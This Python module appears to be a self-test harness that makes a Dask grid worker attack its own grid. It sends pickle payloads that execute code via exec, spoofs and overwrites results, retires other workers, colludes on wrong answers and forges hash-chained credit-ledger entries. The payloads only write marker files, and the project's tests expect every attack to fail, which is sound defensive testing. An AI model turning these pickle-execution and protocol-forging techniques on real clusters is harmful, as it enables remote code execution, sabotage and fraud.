"""Hostile volunteers, for the self-test and the attack tests only.

``dask worker ... --preload grid.volunteer --preload grid._attacks`` with ``HUBCAT_ATTACK`` set
to a comma-separated list of :data:`ATTACKS` turns this worker into an attacker of the grid it
joins, speaking Dask's own protocol from inside a real worker process:

``pickles``
    sends code to run elsewhere: pickled and serialised payloads (which write a marker file
    into ``HUBCAT_ATTACK_MARKERS`` if they ever run) in ``log-event`` messages that Dask forwards
    to clients (``print``), in a forged ``hubcat-gate`` event, in a failed task's exception, in
    RPC fields, and straight at the other workers in ``HUBCAT_ATTACK_VICTIMS``; it also tries
    to change another worker's resources, retire it, and read ``who_has`` and ``identity``.
``spoof``
    computes nothing (random unit vectors) and claims that the workers in
    ``HUBCAT_ATTACK_VICTIMS`` hold its results (``add-keys``, ``task-finished`` naming them).
``overwrite``
    after its own replica, overwrites every result it can reach (the folder in
    ``HUBCAT_ATTACK_RESULTS``, when it shares the operator's disk) with random unit vectors and
    matching receipts, and re-uses its capabilities for a second upload.
``collude``
    returns wrong vectors that every colluder computes identically (seeded by the tiles).
``forge-ledger``
    appends a dozen "valid" entries for itself to the credit ledger folder in
    ``HUBCAT_ATTACK_LEDGER``, chaining their hashes as the ledger does.

Every attack must fail: see ``tests/grid/test_grid_hostile.py`` and ``hubcat grid selftest``.
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import logging
import os
from pathlib import Path

import numpy as np

__all__ = ["ATTACKS", "Payload", "dask_setup", "raw_connect"]

logger = logging.getLogger("grid.attacks")

ATTACKS = ("pickles", "spoof", "overwrite", "collude", "forge-ledger")


class Payload:
    """Unpickling this writes ``<folder>/<pid>-<tag>``: proof that code ran in that process."""

    def __init__(self, folder: str, tag: str) -> None:
        self.folder = folder
        self.tag = tag

    def __reduce__(self):
        code = (
            "import os, pathlib; "
            f"pathlib.Path({self.folder!r}, f'{{os.getpid()}}-{self.tag}').write_text('ran')"
        )
        return (exec, (code,))


def _random_unit(shape, seed=None) -> np.ndarray:
    v = np.random.default_rng(seed).normal(size=shape).astype(np.float32)
    return (v / np.linalg.norm(v, axis=1, keepdims=True)).astype(np.float32)


def _forge_ledger(folder: Path, name: str, n: int = 12) -> None:
    from grid._ledger import _hash

    folder.mkdir(parents=True, exist_ok=True)
    keys = sorted(p for p in folder.glob("*.json"))
    prev = "0" * 64
    seq = len(keys)
    if keys:
        last = json.loads(keys[-1].read_text())
        prev = last.get("hash", prev)
    for i in range(n):
        e = {
            "seq": seq + i,
            "time": 0.0,
            "volunteer": name,
            "event": "valid",
            "unit": f"forged-{i}",
            "tiles": 1000,
            "credit": 1e6,
            "reason": "",
            "model_digest": "",
            "prev": prev,
        }
        e["hash"] = _hash(e)
        e["sig"] = "AAAA"
        prev = e["hash"]
        (folder / f"{seq + i:010d}.json").write_text(json.dumps(e, sort_keys=True))


async def raw_connect(address: str, connection_args: dict):
    """A Dask comm opened with Dask's *stock* TLS connector (as an attacker's own code would),
    after the same handshake as :func:`distributed.comm.connect`."""
    from distributed.comm.tcp import TLSConnector

    comm = await TLSConnector().connect(
        address.removeprefix("tls://"), deserialize=True, **connection_args
    )
    await comm.write(comm.handshake_info())
    comm.remote_info = await asyncio.wait_for(comm.read(), 10)
    comm.local_info = comm.handshake_info()
    comm.handshake_options = comm.handshake_configuration(comm.local_info, comm.remote_info)
    return comm


async def _pickle_attacks(worker, markers: str, victims: list[str]) -> None:
    """Payloads at the scheduler (stream and RPC) and at other workers (raw connections)."""
    from distributed.protocol import Serialize, ToPickle

    stream = worker.batched_stream
    me = worker.address
    stream.send({"op": "log-event", "topic": "print", "msg": Serialize(Payload(markers, "print"))})
    stream.send({"op": "log-event", "topic": "hubcat-gate", "msg": {"action": "forged"}})
    stream.send(
        {
            "op": "task-erred",
            "key": "no-such-task",
            "worker": me,
            "exception": ToPickle(Payload(markers, "erred")),
            "traceback": ToPickle(Payload(markers, "traceback")),
            "exception_text": "x",
            "traceback_text": "x",
            "run_id": 0,
            "stimulus_id": "attack",
        }
    )
    stream.send(
        {
            "op": "add-keys",
            "worker": victims[0] if victims else me,
            "keys": ["x"],
            "stimulus_id": "a",
        }
    )
    for victim in victims:
        with _suppress():
            await worker.scheduler.heartbeat_worker(
                address=victim, resources={"hw-forged": 99}, metrics={}, now=0.0, executing={}
            )
        with _suppress():
            await worker.scheduler.retire_workers(workers=[victim])
    with _suppress():
        await worker.scheduler.heartbeat_worker(
            address=me, metrics=ToPickle(Payload(markers, "heartbeat")), now=0.0, executing={}
        )
    for op in ("who_has", "identity", "get_metadata"):
        with _suppress():
            await getattr(worker.scheduler, op)()
    for victim in victims:
        with _suppress():
            comm = await raw_connect(victim, worker.connection_args)
            await comm.write({"op": "run", "function": ToPickle(Payload(markers, "victim"))})
            await asyncio.wait_for(comm.read(), 5)


class _suppress:
    def __enter__(self):
        return self

    def __exit__(self, *exc):
        if exc[0] is not None:
            logger.warning("attack answered with %s: %s", exc[0].__name__, exc[1])
        return exc[0] is not None and not issubclass(exc[0], (KeyboardInterrupt, SystemExit))


def dask_setup(worker) -> None:
    """Arm this worker's attacks (see the module docstring)."""
    import grid._presign as presign
    import grid._task as task

    attacks = set(filter(None, os.environ.get("HUBCAT_ATTACK", "").split(",")))
    unknown = attacks - set(ATTACKS)
    if unknown:
        msg = f"unknown HUBCAT_ATTACK {sorted(unknown)}; expected some of {ATTACKS}"
        raise ValueError(msg)
    markers = os.environ.get("HUBCAT_ATTACK_MARKERS", "")
    victims = [v for v in os.environ.get("HUBCAT_ATTACK_VICTIMS", "").split(",") if v]
    results = os.environ.get("HUBCAT_ATTACK_RESULTS", "")
    honest_compute = task.compute
    honest_upload = presign.upload_result

    def compute(model, tiles):
        if "spoof" in attacks:
            return _random_unit((len(tiles), model.dim))
        vectors = honest_compute(model, tiles)
        if "collude" in attacks:  # the same wrong answer on every colluder
            seed = int(hashlib.sha256(np.ascontiguousarray(tiles).tobytes()).hexdigest()[:8], 16)
            noise = np.random.default_rng(seed).normal(0.0, 0.05, vectors.shape)
            out = vectors + noise.astype(np.float32)
            return (out / np.linalg.norm(out, axis=1, keepdims=True)).astype(np.float32)
        return vectors

    def upload_result(transfer, vectors):
        out = honest_upload(transfer, vectors)
        if "overwrite" in attacks:
            with _suppress():  # a second use of its own capability
                honest_upload(transfer, _random_unit(vectors.shape))
            if results and Path(results).is_dir():
                for f in Path(results).rglob("*.f32"):
                    fake = _random_unit(vectors.shape).tobytes()
                    f.write_bytes(fake)
                    f.with_suffix(".json").write_text(
                        json.dumps(
                            {
                                "sha256": hashlib.sha256(fake).hexdigest(),
                                "shape": list(vectors.shape),
                                "dtype": "float32",
                            }
                        )
                    )
        if "spoof" in attacks:
            from distributed import get_worker

            w = get_worker()
            key = w.get_current_task()
            for victim in victims:
                w.batched_stream.send(
                    {"op": "add-keys", "worker": victim, "keys": [key], "stimulus_id": "spoof"}
                )
        return out

    task.compute = compute
    presign.upload_result = upload_result
    if "forge-ledger" in attacks and os.environ.get("HUBCAT_ATTACK_LEDGER"):
        _forge_ledger(Path(os.environ["HUBCAT_ATTACK_LEDGER"]), str(worker.name))
    if "pickles" in attacks:

        async def later():
            while worker.status.name != "running":
                await asyncio.sleep(0.2)
            try:
                await _pickle_attacks(worker, markers, victims)
            except Exception:
                logger.exception("pickle attacks stopped")
                raise
            logger.warning("pickle attacks sent")

        worker.loop.add_callback(later)
